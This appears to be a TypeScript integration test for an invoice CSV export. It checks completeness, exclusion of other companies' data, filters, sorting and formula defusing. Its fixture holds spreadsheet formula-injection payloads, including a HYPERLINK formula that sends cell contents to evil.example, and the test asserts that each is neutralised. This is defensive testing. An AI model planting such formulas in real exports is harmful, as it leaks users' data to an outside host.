import { parse } from 'csv-parse/sync';
import { batchWrite, publishedItem } from '../../bench/documentCorpus';
import type { PublishDocumentBody } from '../../shared/api/documents';
import { linesOf, totalsOf } from '../support/documents';
import { activePortalUser, type SignedInUser } from '../support/portalAccess';
import { startTestStack, type TestStack } from '../support/stack';

/**
 * CSV export of a document list (issue 11, item 6): a company with 1,000 invoices gets
 * them all in one file, with the list's filters (status, number search, sort), quoted by
 * the library, formulas defused, and nothing of another company.
 */
jest.setTimeout(120_000);

let stack: TestStack;
let user: SignedInUser;
const COUNT = 1_000;
const DAY = 86_400_000;
const dayFrom = (days: number) => new Date(Date.now() + days * DAY).toISOString().slice(0, 10);
const STATUSES = ['outstanding', 'paid', 'void'] as const;
/** Titles a CRM might send that a spreadsheet must show as text. */
const TRICKY: Record<number, string> = {
  0: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  1: 'Comma, "quoted" and\nnew line',
  2: '+SUM(A1:A9)',
  3: '-2+3',
  4: '@cmd',
  5: '\tTabbed',
  6: 'Łukasz — Ελληνικά 日本語 عربى 🙂',
};

beforeAll(async () => {
  stack = await startTestStack();
  user = await activePortalUser(stack, 'demo');
  const stranger = await activePortalUser(stack, 'demo');
  const lines = linesOf([{ description: 'Sign', quantity: 1, unitPrice: 10_000 }]);
  const credit = linesOf([{ description: 'Returned sign', quantity: -1, unitPrice: 10_000 }]);
  const at = new Date().toISOString();
  const items = [];
  for (let i = 0; i < COUNT; i++) {
    const status = STATUSES[i % 3]!;
    const isCredit = i === 7;
    const body: PublishDocumentBody = {
      companyId: user.companyId,
      number: `EXP-${1000 + i}`,
      ...(TRICKY[i] ? { title: TRICKY[i] } : {}),
      status: isCredit ? 'outstanding' : status,
      issueDate: dayFrom(-i),
      dueDate: dayFrom(30 - i),
      currency: 'GBP',
      lines: isCredit ? credit : lines,
      totals: totalsOf(isCredit ? credit : lines),
      ...(status === 'paid' && !isCredit ? { amountPaid: totalsOf(lines).total } : {}),
    } as PublishDocumentBody;
    items.push(publishedItem(user.tenantId, 'invoice', `exp-${user.companyId}-${i}`, body, at));
  }
  // Another company's invoices, numbered like ours: none may appear.
  for (let i = 0; i < 50; i++) {
    const body = {
      companyId: stranger.companyId,
      number: `EXP-${1000 + i}`,
      title: 'NOT-THIS-COMPANY',
      status: 'outstanding',
      issueDate: dayFrom(-i),
      currency: 'GBP',
      lines,
      totals: totalsOf(lines),
    } as PublishDocumentBody;
    items.push(publishedItem(user.tenantId, 'invoice', `exp-${stranger.companyId}-${i}`, body, at));
  }
  await batchWrite(items);
});
afterAll(() => stack?.stop());

async function exportCsv(query = '') {
  const started = Date.now();
  const res = await stack.api('demo', `/api/document-exports/invoice${query}`, { headers: user.jar.headers() });
  const ms = Date.now() - started;
  const bytes = Buffer.from(await res.arrayBuffer());
  const text = bytes.toString('utf8');
  return { res, text, ms, rows: res.status === 200 ? (parse(text, { bom: true, columns: true }) as Array<Record<string, string>>) : [] };
}

it('exports all 1,000 invoices of the company in one request, and none of another company', async () => {
  const { res, text, rows, ms } = await exportCsv();
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="invoices-all-\d{4}-\d{2}-\d{2}\.csv"$/);
  // A byte-order mark, so Excel reads UTF-8.
  expect(text.charCodeAt(0)).toBe(0xfeff);
  expect(rows).toHaveLength(COUNT);
  expect(Object.keys(rows[0]!)).toEqual([
    'Number',
    'Title',
    'Kind',
    'Status',
    'Issued',
    'Due',
    'Currency',
    'Subtotal',
    'Tax',
    'Total',
    'Balance',
    'Credit left',
  ]);
  expect(new Set(rows.map((r) => r.Number)).size).toBe(COUNT);
  expect(text).not.toContain('NOT-THIS-COMPANY');
  // Newest first, as the list.
  expect(rows[0]!).toMatchObject({
    Number: 'EXP-1000',
    Issued: dayFrom(0),
    Due: dayFrom(30),
    Currency: 'GBP',
    Subtotal: '100.00',
    Tax: '20.00',
    Total: '120.00',
  });
  expect(rows.at(-1)!.Number).toBe('EXP-1999');
  const warm = await exportCsv();
  expect(warm.rows).toHaveLength(COUNT);
  // The figure docs/architecture.md ("Exports") quotes: one request, first and warm.
  console.log(`CSV export: ${COUNT} rows, ${text.length} characters, ${ms} ms (first), ${warm.ms} ms (warm)`);
});

it('quotes what needs quoting and defuses formulas, leaving negative amounts numbers', async () => {
  const { rows, text } = await exportCsv('?q=EXP-100');
  const byNumber = Object.fromEntries(rows.map((r) => [r.Number, r]));
  expect(byNumber['EXP-1000']!.Title).toBe(`'${TRICKY[0]}`);
  expect(byNumber['EXP-1001']!.Title).toBe(TRICKY[1]);
  expect(byNumber['EXP-1002']!.Title).toBe(`'${TRICKY[2]}`);
  expect(byNumber['EXP-1003']!.Title).toBe(`'${TRICKY[3]}`);
  expect(byNumber['EXP-1004']!.Title).toBe(`'${TRICKY[4]}`);
  expect(byNumber['EXP-1005']!.Title).toBe(`'${TRICKY[5]}`);
  expect(byNumber['EXP-1006']!.Title).toBe(TRICKY[6]);
  // A credit note: its kind, a negative total as a number, the credit left.
  expect(byNumber['EXP-1007']).toMatchObject({ Kind: 'Credit note', Status: 'Credit', Total: '-120.00', 'Credit left': '120.00' });
  expect(text).toContain(',-120.00,');
  expect(text).not.toMatch(/^'?=/m);
});

it('honours the status filter, the number search and the sort', async () => {
  const paid = await exportCsv('?status=paid');
  expect(paid.res.headers.get('content-disposition')).toMatch(/invoices-paid-/);
  // Every third invoice is paid, but for the credit note (EXP-1007).
  expect(paid.rows).toHaveLength(Array.from({ length: COUNT }, (_, i) => i).filter((i) => i % 3 === 1 && i !== 7).length);
  expect(paid.rows.every((r) => r.Status === 'Paid' && r.Balance === '0.00')).toBe(true);

  // Outstanding and due before today: EXP-1031 onwards, but never a paid, void or credit one.
  const overdue = await exportCsv('?status=overdue');
  expect(overdue.rows.length).toBeGreaterThan(300);
  expect(overdue.rows.every((r) => r.Status === 'Overdue' && (r.Due ?? '') < dayFrom(0))).toBe(true);

  const search = await exportCsv('?q=EXP-10');
  expect(search.rows.map((r) => r.Number)).toEqual(Array.from({ length: 100 }, (_, i) => `EXP-${1000 + i}`));

  const oldest = await exportCsv('?sort=oldest');
  expect(oldest.rows).toHaveLength(COUNT);
  expect(oldest.rows[0]!.Number).toBe('EXP-1999');
  expect(oldest.rows.map((r) => r.Number)).toEqual([...(await exportCsv()).rows.map((r) => r.Number)].reverse());
});

it('refuses a filter the type lacks and a search with a status, naming the field', async () => {
  const bad = await exportCsv('?status=accepted');
  expect(bad.res.status).toBe(400);
  expect(JSON.parse(bad.text).errors[0].name).toBe('query.status');
  const both = await exportCsv('?status=paid&q=EXP');
  expect(both.res.status).toBe(400);
  expect(JSON.parse(both.text).errors[0].name).toBe('query.q');
});
